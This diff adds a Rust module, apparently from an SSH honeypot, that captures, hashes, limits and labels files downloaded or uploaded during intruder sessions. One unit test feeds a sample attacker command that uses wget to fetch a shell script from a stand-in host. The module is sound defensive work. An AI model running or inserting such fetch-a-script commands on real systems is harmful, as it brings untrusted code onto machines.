@@ -1,0 +1,233 @@
+//! What a session leaves behind: files created or changed in its container, copied
+//! into a content-addressed store, labelled with the URL that fetched them or the
+//! scp/sftp upload that brought them.
+//!
+//! The decisions live here (limits, what was seen, upload or download); the session
+//! drives a pass through the [`crate::sandbox::Sandbox`] traits and emits the events.
+
+pub mod downloads;
+pub mod store;
+pub mod uploads;
+
+use std::collections::{HashMap, HashSet};
+
+pub use downloads::{Fetch, fetches, url_for};
+pub use store::{FileStore, StoreError, Stored, sha256_hex};
+pub use uploads::{ScpUploads, SftpUploads, Upload};
+
+/// Limits on what one session may put into the store.
+#[derive(Debug, Clone, PartialEq, Eq)]
+pub struct CaptureLimits {
+    /// Largest file copied.
+    pub max_file_size: u64,
+    /// Most files copied per session.
+    pub max_files_per_session: usize,
+    /// Paths never copied (exact paths, or prefixes ending in `/`): files the login
+    /// itself writes, such as wtmp and lastlog.
+    pub ignore_paths: Vec<String>,
+}
+
+impl CaptureLimits {
+    /// Whether `path` is on the ignore list.
+    pub fn ignores(&self, path: &str) -> bool {
+        self.ignore_paths.iter().any(|ignored| {
+            if ignored.ends_with('/') {
+                path.starts_with(ignored.as_str())
+            } else {
+                path == ignored
+            }
+        })
+    }
+}
+
+/// How a file came into the container.
+#[derive(Debug, Clone, Copy, PartialEq, Eq)]
+pub enum FileKind {
+    /// Created in the session (fetched, written, unpacked...).
+    Download,
+    /// Sent by the client with scp or sftp.
+    Upload,
+}
+
+impl FileKind {
+    /// Name used in the metadata.
+    pub fn as_str(self) -> &'static str {
+        match self {
+            FileKind::Download => "download",
+            FileKind::Upload => "upload",
+        }
+    }
+}
+
+/// A file the session captured, for its metadata.
+#[derive(Debug, Clone, PartialEq, Eq)]
+pub struct CapturedFile {
+    /// When it was copied (ISO 8601).
+    pub time: String,
+    /// Download or upload.
+    pub kind: FileKind,
+    /// Path in the container.
+    pub destfile: String,
+    /// SHA-256.
+    pub shasum: String,
+    /// Bytes.
+    pub size: u64,
+    /// The URL that fetched it, when known.
+    pub url: Option<String>,
+    /// The name the client gave an upload.
+    pub filename: Option<String>,
+    /// The store had it already.
+    pub duplicate: bool,
+}
+
+/// Why a file was not copied.
+#[derive(Debug, Clone, Copy, PartialEq, Eq)]
+pub enum SkipReason {
+    /// Larger than `max_file_size`.
+    TooLarge,
+    /// The session reached `max_files_per_session`.
+    TooMany,
+    /// The store reached `max_store_size`.
+    StoreFull,
+    /// The store could not be written.
+    StoreError,
+}
+
+impl SkipReason {
+    /// Name used in `hermes.file.skipped`.
+    pub fn as_str(self) -> &'static str {
+        match self {
+            SkipReason::TooLarge => "max_file_size",
+            SkipReason::TooMany => "max_files_per_session",
+            SkipReason::StoreFull => "max_store_size",
+            SkipReason::StoreError => "store_error",
+        }
+    }
+}
+
+/// Skip events reported per session; past it, skipped files are only counted.
+pub const MAX_SKIP_EVENTS: usize = 100;
+
+/// One session's capture state: what was seen (so a pass copies only what changed
+/// since the last), what was stored, and the hints that label files.
+#[derive(Debug, Default)]
+pub struct SessionFiles {
+    /// Path to (size, modification time) when last looked at.
+    seen: HashMap<String, (u64, String)>,
+    /// (path, sha256) of files copied, so the same content at the same path is
+    /// reported once.
+    copied: HashSet<(String, String)>,
+    stored: usize,
+    skips_reported: usize,
+    /// Files not copied, all reasons.
+    pub skipped: usize,
+    /// Fetches the session's commands asked for.
+    pub fetches: Vec<Fetch>,
+    /// Files sent with scp or sftp.
+    pub uploads: Vec<Upload>,
+    /// What was captured, in order.
+    pub captured: Vec<CapturedFile>,
+}
+
+impl SessionFiles {
+    /// Notes a command line's fetches (for labelling files with their URL).
+    pub fn command(&mut self, line: &str) {
+        if self.fetches.len() < 10_000 {
+            self.fetches.extend(fetches(line));
+        }
+    }
+
+    /// Whether the file at `path` with this size and time is new or changed since it
+    /// was last looked at; remembers it.
+    pub fn changed(&mut self, path: &str, size: u64, modified: &str) -> bool {
+        let now = (size, modified.to_owned());
+        self.seen.get(path) != Some(&now) && {
+            self.seen.insert(path.to_owned(), now);
+            true
+        }
+    }
+
+    /// Whether one more file may be copied.
+    pub fn has_room(&self, limits: &CaptureLimits) -> bool {
+        self.stored < limits.max_files_per_session
+    }
+
+    /// Whether a skip should get an event (the first [`MAX_SKIP_EVENTS`] do).
+    pub fn report_skip(&mut self) -> bool {
+        self.skipped += 1;
+        self.skips_reported += 1;
+        self.skips_reported <= MAX_SKIP_EVENTS
+    }
+
+    /// Whether this content at this path is new to the session; counts it.
+    pub fn first_copy(&mut self, path: &str, sha256: &str) -> bool {
+        let new = self.copied.insert((path.to_owned(), sha256.to_owned()));
+        if new {
+            self.stored += 1;
+        }
+        new
+    }
+
+    /// How a file at `path` came: an upload (with the client's name) or not.
+    pub fn upload_name(&self, path: &str) -> Option<&str> {
+        self.uploads
+            .iter()
+            .rev()
+            .find(|upload| upload.path == path)
+            .map(|upload| upload.filename.as_str())
+    }
+
+    /// The URL that fetched the file at `path`, if a command of the session did.
+    pub fn url(&self, path: &str) -> Option<&str> {
+        url_for(&self.fetches, path)
+    }
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    #[test]
+    fn a_file_counts_as_changed_once_per_version() {
+        let mut files = SessionFiles::default();
+        assert!(files.changed("/tmp/a", 3, "t1"));
+        assert!(!files.changed("/tmp/a", 3, "t1"));
+        assert!(files.changed("/tmp/a", 4, "t2"));
+    }
+
+    #[test]
+    fn labels_come_from_commands_and_uploads() {
+        let mut files = SessionFiles::default();
+        files.command("cd /tmp; wget http://192.0.2.1/x.sh");
+        files.uploads.push(Upload {
+            path: "/root/up.bin".into(),
+            filename: "up.bin".into(),
+        });
+        assert_eq!(files.url("/tmp/x.sh"), Some("http://192.0.2.1/x.sh"));
+        assert_eq!(files.upload_name("/root/up.bin"), Some("up.bin"));
+        assert_eq!(files.upload_name("/tmp/x.sh"), None);
+    }
+
+    #[test]
+    fn limits() {
+        let limits = CaptureLimits {
+            max_file_size: 10,
+            max_files_per_session: 2,
+            ignore_paths: vec!["/var/log/wtmp".into(), "/run/".into()],
+        };
+        assert!(limits.ignores("/var/log/wtmp"));
+        assert!(limits.ignores("/run/utmp"));
+        assert!(!limits.ignores("/var/log/wtmp.1"));
+        let mut files = SessionFiles::default();
+        assert!(files.first_copy("/a", "h1"));
+        assert!(!files.first_copy("/a", "h1"));
+        assert!(files.has_room(&limits));
+        assert!(files.first_copy("/b", "h1"));
+        assert!(!files.has_room(&limits));
+        for _ in 0..MAX_SKIP_EVENTS {
+            assert!(files.report_skip());
+        }
+        assert!(!files.report_skip());
+        assert_eq!(files.skipped, MAX_SKIP_EVENTS + 1);
+    }
+}
